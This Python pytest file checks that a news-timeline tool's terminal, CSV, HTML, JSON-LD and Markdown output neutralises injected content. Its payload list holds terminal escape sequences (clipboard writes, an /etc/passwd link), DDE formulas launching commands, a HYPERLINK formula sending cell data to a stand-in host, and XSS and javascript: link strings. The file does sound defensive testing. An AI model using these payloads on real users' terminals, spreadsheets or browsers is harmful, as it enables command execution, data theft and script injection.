"""Output is never code: attacks in titles, markers, texts, captions, credits, names and errors, and the real output of each format."""

import csv
import io
import json
import os
import re
import subprocess
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from newsline.rendering import FORMATS
from newsline.writers.csv import undone
from tests.running import COMMAND, run

ATTACKS = {
    # --- what steers a terminal
    "red": "\x1b[31mأحمر\x1b[0m",
    "clear the screen": "\x1b[2J\x1b[H",
    "cursor home": "\x1b[1;1Hدخيل",
    "cursor up": "\x1b[5A\x1b[2Kدخيل",
    "alternate screen": "\x1b[?1049h",
    "hide the cursor": "\x1b[?25l",
    "bracketed paste": "\x1b[?2004l\x1b[201~rm",
    "report the cursor": "\x1b[6n",
    "device attributes": "\x1b[c\x1b[>c",
    "report the title": "\x1b[21t",
    "window title": "\x1b]0;دخيل\x07",
    "window title, ST": "\x1b]2;دخيل\x1b\\",
    "link": "\x1b]8;;http://example.invalid/\x1b\\انقر\x1b]8;;\x1b\\",
    "link, BEL": "\x1b]8;;file:///etc/passwd\x07انقر\x1b]8;;\x07",
    "clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "clipboard, read": "\x1b]52;c;?\x07",
    "palette": "\x1b]4;1;?\x07",
    "notification": "\x1b]777;notify;a;b\x07",
    "current folder": "\x1b]7;file://host/tmp\x07",
    "picture": "\x1b]1337;File=inline=1:AAAA\x07",
    "DCS request": '\x1bP$q"p\x1b\\',
    "sixel": "\x1bPq#0;2;0;0;0#0~~@@\x1b\\",
    "tmux passthrough": "\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\",
    "APC": "\x1b_Gf=100;AAAA\x1b\\",
    "PM": "\x1b^دخيل\x1b\\",
    "SOS": "\x1bXدخيل\x1b\\",
    "reset": "\x1bc",
    "other charset": "\x1b(0lqqk\x1b(B",
    "DECALN": "\x1b#8",
    "ESC alone": "قبل\x1bبعد",
    "C1 CSI": "\x9b31mأحمر",
    "C1 OSC": "\x9d52;c;eA==\x9c",
    "C1 DCS": "\x90q\x9c",
    "C1 APC": "\x9fGf=1\x9c",
    "C1 reverse index": "\x8dدخيل",
    "backspaces": "سري\x08\x08\x08\x08علني",
    "DEL": "قبل\x7fبعد",
    "NUL": "قبل\x00بعد",
    "BEL": "\x07\x07",
    "shift out": "\x0eدخيل\x0f",
    "ENQ": "\x05",
    "vertical tab": "قبل\x0bبعد",
    "file separator": "قبل\x1c\x1d\x1e\x1fبعد",
    # --- what turns text round
    "RLO": "\u202eمقلوب abc\u202c",
    "LRO": "\u202dمقلوب abc",
    "RLO without an end": "\u202e" * 9 + "2015",
    "isolates without an end": "\u2067\u2066\u2068 abc",
    "PDI too many": "\u2069\u2069\u202c\u202c abc",
    "embeddings": "\u202a\u202b abc",
    "RLO in a word": "admin\u202e⁦ // تحقق⁩ ⁦",
    # --- rich
    "rich style": "[bold red]عاجل[/bold red]",
    "rich link": "[link=http://example.invalid]انقر[/link]",
    "rich end": "[/foo]",
    "rich end of all": "[/]",
    "rich escape": "\\[bold]عاجل\\",
    "rich action": "[@click=app.quit()]انقر[/]",
    "rich emoji": ":bomb: :x:",
    # --- spreadsheets
    "formula": "=1+1",
    "DDE": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://example.invalid/?"&A1,"انقر")',
    "import": '=IMPORTXML("http://example.invalid","//a")',
    "tab, formula": "\t=1+1",
    "space, formula": " =1+1",
    "no-break space, formula": "\xa0=1+1",
    "mark, formula": "\u200f=1+1",
    "BOM, formula": "\ufeff=1+1",
    "full-width formula": "＝1+1",
    "quote, formula": '"=1+1',
    "apostrophe": "'=1+1",
    "separators": 'أ","ب";\t"ج',
    # --- browsers
    "script": "<script>alert(1)</script>",
    "end of script": "</script><script>alert(1)</script>",
    "end of script, spaces": "</ScRiPt \t><img src=x onerror=alert(1)>",
    "comment": "<!--<script>",
    "end of comment": "--> --!> ]]>",
    "style": "</style><style>*{display:none}</style>",
    "end of title": "</title><script>alert(1)</script>",
    "picture with an error": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x="',
    "attribute, single": "' onfocus='alert(1)' autofocus='",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric entity": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "double entity": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'>",
    "base": "<base href=http://example.invalid/>",
    "meta": "<meta http-equiv=refresh content='0;http://example.invalid/'>",
    "template": "{{constructor.constructor('alert(1)')()}}",
    "line separators": "أ\u2028alert(1)\u2029",
    # --- Markdown
    "link in Markdown": "[انقر](javascript:alert(1))",
    "link in Markdown, spaces": "[انقر]( java&Tab;script:alert(1) )",
    "link with a reference": "[انقر][1]",
    "reference": "[1]: javascript:alert(1)",
    "picture in Markdown": "![صورة](http://example.invalid/x.png)",
    "address": "<javascript:alert(1)>",
    "bare address": "http://example.invalid/x",
    "backticks": "```\nشيفرة".replace("\n", " "),
    "backtick": "`شيفرة",
    "heading": "# دخيل",
    "list": "- بند",
    "quote": "> اقتباس",
    "rule": "*** ***",
    "table": "| أ | ب |",
    "HTML in Markdown": "<b>عريض</b>",
    "emphasis": "**عريض** _مائل_ ~~محذوف~~",
}
# The same in a line of text: what ends a line there is another line.
LINES = {name: text for name, text in ATTACKS.items() if not re.search("[\u2028\u2029]", text)}

# So much plain text around an attack that its control characters do not make the whole binary data.
PLAIN = "أغلقت بلدية السماق السوق القديم عصرا ريثما يعاين المهندسون سقفه.\n" * 60

STEERING = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202d\u202e\ud800-\udfff]")
TURNING = re.compile(r"[\u202a-\u202e\u2066-\u2069]")
COLOURS = re.compile(r"\x1b\[[0-9;]*m")


def article(attack: str) -> str:
    """A text with the attack in its title, a caption, a marker, a label's text, two paragraphs and the credit."""
    head = "عنوان\n" if attack.startswith("<") else ""  # else it would be read as a page
    return (
        f"{head}{attack}\nصورة {attack}\n\nاندلع حريق في السوق صباحا. {attack}.\n"
        f"{PLAIN}\nتحديث (15:36 ت غ)\n\n{attack}\n\nأخمد الحريق.\n\nتحديث 16:20 ت غ: {attack} انتهى.\n\nالمصدر: {attack}\n"
    )


def record(attack: str) -> str:
    """A JSON line with the attack in every field that is shown."""
    fields = {"url": attack, "title": attack, "text": article(attack), "date": attack}
    return json.dumps(fields, ensure_ascii=False) + "\n"


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One file an attack, named by the attack as far as a file system lets it, and one file of records."""
    found = tmp_path_factory.mktemp("attacks")
    for attack in LINES.values():
        name = attack.replace("/", "∕").replace("\0", "")[:60] or "x"
        (found / f"{name}.txt").write_text(article(attack), encoding="utf-8", newline="")
    (found / "records.jsonl").write_text("".join(map(record, ATTACKS.values())), encoding="utf-8")
    return found


@pytest.fixture(scope="module")
def files(folder: Path) -> list[str]:
    return [f"./{name}" for name in sorted(os.listdir(folder))]


def printed(folder: Path, files: list[str], *options: str) -> str:
    """What a run prints into a pipe."""
    arguments = ["parse", "--quiet", "--date", "2025-10-04", *options, *files]
    done = subprocess.run(
        [*COMMAND, *arguments], cwd=folder, capture_output=True, check=False, stdin=subprocess.DEVNULL
    )
    assert done.returncode == 0, done.stderr.decode()[:400]
    return done.stdout.decode("utf-8")


def on_a_terminal(folder: Path, arguments: list[str], **environment: str) -> str:
    """Everything that a pseudo-terminal is sent by a run, stdout and stderr together."""
    master, slave = os.openpty()
    pieces: list[bytes] = []

    def take() -> None:
        while True:
            try:
                piece = os.read(master, 1 << 16)
            except OSError:  # the other end is closed
                return
            if not piece:
                return
            pieces.append(piece)

    reader = threading.Thread(target=take)
    reader.start()
    try:
        changed = {"TERM": "xterm-256color", "COLUMNS": "100", **environment}
        names = {
            key: value for key, value in os.environ.items() if key not in ("VTE_VERSION", "KONSOLE_VERSION", "NO_COLOR")
        }
        command = [*COMMAND, *arguments]
        subprocess.run(
            command,
            cwd=folder,
            stdin=subprocess.DEVNULL,
            stdout=slave,
            stderr=slave,
            env={**names, **changed},
            check=False,
        )
    finally:
        os.close(slave)
        reader.join()
        os.close(master)
    return b"".join(pieces).decode("utf-8").replace("\r\n", "\n")


def test_there_are_sixty_and_more() -> None:
    assert len(set(ATTACKS.values())) >= 100


# --- terminals ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "options",
    [
        ["--no-color"],
        ["--color"],
        ["--color", "--full", "--explain"],
        ["--no-color", "--bidi", "off", "--reverse"],
        ["--merge", "--color"],
    ],
    ids=" ".join,
)
@pytest.mark.parametrize("columns", ["100", "24"])
def test_a_table_steers_no_terminal(folder: Path, files: list[str], options: list[str], columns: str) -> None:
    shown = on_a_terminal(folder, ["parse", "-f", "table", *options, *files], COLUMNS=columns)
    assert shown.count("\n") > 1000
    plain = COLOURS.sub("", shown)
    assert (plain == shown) == ("--no-color" in options)
    assert STEERING.findall(plain) == []
    assert TURNING.findall(plain) == []


def test_isolates_are_even_on_every_line(folder: Path, files: list[str]) -> None:
    shown = on_a_terminal(folder, ["parse", "-f", "table", "--no-color", "--bidi", "isolate", "--full", *files])
    assert "\u2068" in shown
    assert STEERING.findall(shown) == []
    for line in shown.split("\n"):
        assert re.sub("\u2068[^\u2068\u2069]*\u2069", "", line).count("\u2068") == 0, line
        assert line.count("\u2068") == line.count("\u2069"), line


def test_markup_of_rich_is_shown(folder: Path, files: list[str]) -> None:
    shown = on_a_terminal(folder, ["parse", "-f", "table", "--no-color", "--full", *files])
    for name, attack in ATTACKS.items():
        if name.startswith("rich"):
            assert attack in shown, name


@pytest.mark.parametrize("form", [form for form in FORMATS if form != "table"])
def test_no_other_format_steers_a_terminal(folder: Path, files: list[str], form: str) -> None:
    shown = on_a_terminal(folder, ["parse", "-f", form, *files])
    assert shown
    assert STEERING.findall(shown) == []


# --- errors -------------------------------------------------------------------------------------------------------

ERRORS = {
    "a file that is not there": ["parse", "{}"],
    "a folder that is not there": ["parse", "-o", "none/{}", "--json", "-"],
    "an ending": ["parse", "-o", "x.{}", "-"],
    "a zone": ["parse", "--zone", "{}"],
    "a zone to show": ["parse", "--tz", "{}"],
    "a date": ["parse", "--date", "{}"],
    "an encoding": ["parse", "--encoding", "{}"],
    "a format": ["parse", "--format", "{}"],
    "a layout": ["parse", "--layout", "{}"],
    "an option": ["parse", "--{}"],
    "a command": ["{}"],
    "a schema": ["schema", "{}"],
    "a field": ["parse", "--input", "jsonl", "--text-field", "{}", "-"],
    "a zone of stamp": ["stamp", "--zone", "{}"],
    "an argument too many": ["schema", "stamp", "{}"],
}


@pytest.mark.parametrize("name", ERRORS)
def test_an_error_is_a_line_that_steers_nothing(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    wrong = {}
    for kind, attack in ATTACKS.items():
        given = attack.replace("\0", "")
        done = run(*(part.format(given) for part in ERRORS[name]), stdin='{"a": 1}\n')
        *usage, last, end = done.stderr.split("\n") if done.stderr else ("", "")
        if (
            end
            or any(line and not line.startswith(("Usage: ", "Try ")) for line in usage)
            or STEERING.search("".join((*usage, last)))
        ):
            wrong[kind] = (done.exit_code, done.stderr)
        if done.exit_code not in (0, 2) or (done.exit_code == 2 and not last):
            wrong[kind] = (done.exit_code, done.stderr)
    assert wrong == {}


def test_notices_of_records_are_lines(folder: Path) -> None:
    bad = "".join('{"text": ' + json.dumps(attack, ensure_ascii=False) + "\n" for attack in ATTACKS.values())
    done = run("parse", "--input", "jsonl", "--json", stdin=bad)
    assert done.exit_code == 2
    assert {line.partition(":")[0] for line in done.stderr.split("\n") if line} == {"newsline"}
    assert STEERING.findall(done.stderr.replace("\n", "")) == []


# --- reading back -------------------------------------------------------------------------------------------------


def timelines(folder: Path, files: list[str]) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = json.loads(printed(folder, files, "--json"))["articles"]
    return found


def test_json_holds_every_attack_to_the_character(folder: Path) -> None:
    found = timelines(folder, ["records.jsonl"])
    sources = [one["source"] for one in found]
    assert [text for text in ATTACKS.values() if text not in sources] == []
    for one in found:
        words = "\n".join(entry["text"] for entry in one["timeline"])
        assert one["source"] in words or re.search("[\u2028\u2029\f]", one["source"]), one["source"]


def test_jsonl_is_one_object_a_line(folder: Path, files: list[str]) -> None:
    whole = [entry for one in timelines(folder, files) for entry in one["timeline"]]
    lines = printed(folder, files, "-f", "jsonl").split("\n")[:-1]
    assert [json.loads(line)["text"] for line in lines] == [entry["text"] for entry in whole]


@pytest.mark.parametrize(("form", "dialect"), [("csv", "excel"), ("tsv", "excel-tab")])
def test_no_cell_is_a_formula_and_all_read_back(folder: Path, files: list[str], form: str, dialect: str) -> None:
    whole = [
        (one["source"], one["title"], entry["text"]) for one in timelines(folder, files) for entry in one["timeline"]
    ]
    rows = list(csv.DictReader(io.StringIO(printed(folder, files, "-f", form), newline=""), dialect=dialect))
    assert [(undone(row["source"]), undone(row["title"]), undone(row["text"])) for row in rows] == whole
    cells = [value for row in rows for value in row.values()]
    assert [cell for cell in cells if re.match(r"[\s\x00-\x20\u200b-\u200f\ufeff]*[=+\-@＝＋－＠].", cell, re.S)] == []
    assert [cell for cell in cells if cell[:1] in ("\t", "\r")] == []


# --- browsers -----------------------------------------------------------------------------------------------------


class Elements(HTMLParser):
    """The elements of a page with their attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


ACTIVE = {"img", "iframe", "object", "embed", "base", "form", "input", "video", "audio", "link"}


def dangers(html: str) -> list[tuple[str, dict[str, str | None]]]:
    """Elements that would run or fetch something."""
    return [
        (tag, attributes)
        for tag, attributes in Elements(html).found
        if (tag in ACTIVE and attributes.get("href") != "data:,")
        or (tag == "script" and attributes.get("type") != "application/ld+json")
        or (tag == "meta" and attributes.get("http-equiv", "Content-Security-Policy") != "Content-Security-Policy")
        or any(name.startswith("on") or name in ("src", "srcdoc", "style") for name in attributes)
        or (attributes.get("href") or "#")[:1] not in ("#", "d")
    ]


@pytest.mark.parametrize("options", [[], ["--explain", "--reverse"], ["--merge"]], ids=["plain", "explained", "merged"])
def test_a_page_runs_and_fetches_nothing(folder: Path, files: list[str], options: list[str]) -> None:
    html = printed(folder, files, "-f", "html", *options)
    assert dangers(html) == []
    text = Elements(html).text
    for name in ("picture with an error", "svg", "entity", "double entity"):
        assert ATTACKS[name] in text, name
    assert STEERING.findall(re.sub("(?s)<script.*?</script>", "", html)) == []


@pytest.mark.parametrize("options", [[], ["--merge"]], ids=["plain", "merged"])
def test_json_ld_may_stand_in_a_script(folder: Path, files: list[str], options: list[str]) -> None:
    text = printed(folder, files, "-f", "jsonld", *options)
    assert re.findall("[<>\u2028\u2029]", text) == []
    page = f'<script type="application/ld+json">{text}</script><p>'
    assert [tag for tag, _ in Elements(page).found] == ["script", "p"]
    assert ATTACKS["end of script"] in json.dumps(json.loads(text), ensure_ascii=False)


def test_timelinejs_holds_no_elements_of_a_source(folder: Path, files: list[str]) -> None:
    def strings(value: Any) -> Iterator[str]:
        if isinstance(value, str):
            yield value
        elif isinstance(value, dict | list):
            for one in value.values() if isinstance(value, dict) else value:
                yield from strings(one)

    found = json.loads(printed(folder, files, "-f", "timelinejs"))
    tags = [element for text in strings(found) for element in Elements(text).found]
    assert {tag for tag, _ in tags} <= {
        "p",
        "br",
        "div",
        "strong",
        "b",
        "i",
        "bdi",
        "span",
        "blockquote",
        "small",
        "cite",
    }
    assert [one for text in strings(found) for one in dangers(text)] == []
    assert len(found["events"]) > 100


# --- Markdown -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("options", [[], ["--explain"], ["--merge"]], ids=["plain", "explained", "merged"])
@pytest.mark.parametrize("flavour", ["commonmark", "js-default"])
def test_markdown_shows_and_runs_nothing(folder: Path, files: list[str], options: list[str], flavour: str) -> None:
    markdown_it = pytest.importorskip("markdown_it")
    text = printed(folder, files, "-f", "md", *options)
    html = markdown_it.MarkdownIt(flavour, {"html": True}).render(text)
    assert dangers(html) == []
    tags = {tag for tag, _ in Elements(html).found}
    assert not tags & {"a", "img", "code", "pre", "script", "b", "svg", "s", "iframe", "style"}
    shown = Elements(html).text
    for name in ("link in Markdown", "picture in Markdown", "script", "reference", "backtick", "address"):
        assert ATTACKS[name] in shown, name


# --- a real browser -----------------------------------------------------------------------------------------------

CHROMIUM = "/usr/bin/chromium"


@pytest.mark.slow
@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs chromium")
@pytest.mark.parametrize("form", ["html", "jsonld", "md"])
def test_chromium_runs_nothing(folder: Path, files: list[str], tmp_path: Path, form: str) -> None:
    """Any script that ran would have changed the page's title; the policy of the page is taken out first."""
    text = printed(folder, files, "-f", form)
    if form == "jsonld":
        text = f'<!doctype html><title>x</title><script type="application/ld+json">{text}</script>'
    elif form == "md":
        markdown_it = pytest.importorskip("markdown_it")
        text = f"<!doctype html><title>x</title>{markdown_it.MarkdownIt('commonmark', {'html': True}).render(text)}"
    text = re.sub(r"<meta http-equiv=[^>]*>", "", text)
    text = text.replace(
        "<title>", "<script>window.alert = () => { document.documentElement.id = 'ran' }</script><title>", 1
    )
    page = tmp_path / "page.html"
    page.write_text(text, encoding="utf-8")
    command = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path}/profile"]
    options = ["--virtual-time-budget=3000", "--host-resolver-rules=MAP * ~NOTFOUND", "--dump-dom", page.as_uri()]
    done = subprocess.run([*command, *options], capture_output=True, encoding="utf-8", check=True, timeout=120)
    assert "</html>" in done.stdout
    assert 'id="ran"' not in done.stdout
